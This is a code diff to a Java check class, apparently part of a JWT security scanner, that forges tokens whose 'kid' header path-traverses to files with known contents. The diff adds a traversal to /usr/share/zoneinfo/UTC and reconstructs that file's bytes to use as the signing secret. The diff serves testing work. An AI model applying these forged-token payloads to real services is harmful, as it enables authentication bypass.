@@ -24,11 +24,17 @@ import java.util.stream.Stream;
         cwe = 22,
         schemes = Scheme.Type.BEARER_JWT,
         per = Check.Per.SCHEME,
-        requests = 15)
+        requests = 16)
 public final class KidTraversal implements DenialCheck {
 
     /** What kernel.randomize_va_space is on nearly every Linux. */
     private static final List<String> RANDOMIZE = List.of("2\n", "2");
+
+    /** RFC 9636 3: one type of local time without offset, named UTC. */
+    private static final String TIME_ZONE = "TZif2" + "\0".repeat(34) + "\1\0\0\0\4" + "\0".repeat(6) + "UTC\0";
+
+    /** The file of UTC as all releases since 2020b have it: long enough for those who refuse secrets under 256 bits. */
+    private static final String UTC = TIME_ZONE + TIME_ZONE + "\nUTC0\n";
 
     @Override
     public Stream<Attempt> attempts(Subject on) {
@@ -42,11 +48,13 @@ public final class KidTraversal implements DenialCheck {
                         "NUL"),
                 // how deep the folder lies is not known; more than enough is enough, but for those who count
                 IntStream.of(1, 2, 3, 4, 5, 6, 10).mapToObj(depth -> "../".repeat(depth) + "dev/null"));
-        var deep = "../".repeat(10) + "proc/sys/kernel/randomize_va_space";
+        var deep = "../".repeat(10);
         return Stream.of(
                         empty.map(kid -> attempt(forging, kid, "")),
                         Stream.of(attempt(forging, "..\\".repeat(8) + "NUL", "")),
-                        RANDOMIZE.stream().map(content -> attempt(forging, deep, content)))
+                        RANDOMIZE.stream()
+                                .map(content -> attempt(forging, deep + "proc/sys/kernel/randomize_va_space", content)),
+                        Stream.of(attempt(forging, deep + "usr/share/zoneinfo/UTC", UTC)))
                 .flatMap(attempts -> attempts);
     }
 
